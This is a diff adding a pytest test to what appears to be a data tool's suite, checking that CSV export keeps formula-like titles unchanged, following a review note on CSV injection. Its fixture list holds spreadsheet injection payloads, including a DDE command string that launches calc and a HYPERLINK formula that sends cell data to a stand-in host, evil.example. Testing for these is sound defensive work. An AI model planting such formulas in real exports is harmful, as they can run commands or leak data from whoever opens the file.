@@ -113,3 +113,27 @@ def test_month_bounds() -> None:
     assert month_ceil(mid) == datetime(2024, 4, 1, tzinfo=UTC)
     assert month_ceil(datetime(2024, 12, 2, tzinfo=UTC)) == datetime(2025, 1, 1, tzinfo=UTC)
     assert month_ceil(datetime(2024, 4, 1, tzinfo=UTC)) == datetime(2024, 4, 1, tzinfo=UTC)
+
+
+def test_csv_keeps_formula_like_titles_as_stored(tmp_path: Path, cli: CliRunner) -> None:
+    # Review r24 (CSV injection): a page's title can be a spreadsheet formula. The CSV
+    # holds it as stored, as DuckDB, pandas and PostgreSQL write CSV (README, "Search,
+    # export, reports"), so every reader gets the site's text back; a prefix would change it.
+    from tests.analyst.conftest import TRAFFICKING, article
+
+    titles = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")',
+              "+1 (555) 0100", "-2 dead", "@SUM(1+1)", "\tTabbed"]
+    db = tmp_path / "formula.duckdb"
+    write(db, [article(f"f{n}", t, TRAFFICKING) for n, t in enumerate(titles)])
+    out = tmp_path / "export"
+    proc = cli("export", "--db", str(db), "--out", str(out), "--format", "csv")
+    assert proc.returncode == 0, proc.stderr
+    (part,) = out.rglob("*.csv")
+    con = duckdb.connect()
+    try:
+        got = [r[0] for r in con.execute(
+            "SELECT title FROM read_csv(?, all_varchar = true) ORDER BY url", [str(part)]
+        ).fetchall()]
+    finally:
+        con.close()
+    assert got == titles
